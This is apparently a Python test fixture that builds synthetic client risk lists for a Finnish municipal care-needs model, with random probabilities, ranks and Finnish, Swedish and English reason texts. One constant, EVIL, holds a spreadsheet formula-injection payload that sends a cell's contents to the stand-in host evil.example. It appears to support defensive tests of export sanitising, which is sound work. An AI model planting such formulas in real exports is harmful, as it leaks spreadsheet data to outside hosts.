"""Small risk lists built directly (no model): valid against models.scoring.RiskList, with chosen unit names."""
import numpy as np
import pandas as pd

from models.scoring import RiskList

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


def make_risklist(units=("tuusula_hyrylä", "järvenpää"), per_unit=40, seed=0, as_of="2025-01-01",
                  model_version="3") -> pd.DataFrame:
    """``per_unit`` clients in each unit, ranked by a random probability; every fifth client not explained."""
    rng = np.random.default_rng(seed)
    n = per_unit * len(units)
    prob = np.sort(rng.beta(1.2, 9.0, n))[::-1]
    unit = np.array([units[i % len(units)] for i in range(n)], dtype=object)
    reasons = {
        "fi": "3 päivystyskäyntiä viimeisen 6 kuukauden aikana (nostaa riskiä) | ikä 81 vuotta (nostaa riskiä)",
        "sv": "3 jourbesök under de senaste 6 månaderna (höjer risken)",
        "en": "3 emergency visits in the last 6 months (raises risk) | age 81 (raises risk)",
    }
    explained = np.arange(n) % 5 != 4
    frame = pd.DataFrame({
        "client_id": [f"c{i:05d}" for i in rng.permutation(n)],
        "unit": unit,
        "municipality": "Tuusula",
        "probability": prob,
        "rank": np.arange(1, n + 1, dtype=np.int64),
        "percentile": 100.0 * (1.0 - np.arange(n) / n),
        "segment": pd.array(["paljon tukea tarvitsevat"] * n, dtype="string"),
        **{f"reasons_{lang}": pd.array(np.where(explained, text, None), dtype="string")
           for lang, text in reasons.items()},
        "model_name": "high_use", "model_version": model_version, "run_id": "abc123", "data_digest": "d1g35t",
        "as_of": pd.Timestamp(as_of),
    })
    frame["as_of"] = frame["as_of"].astype("datetime64[us]")
    return RiskList.validate(frame)
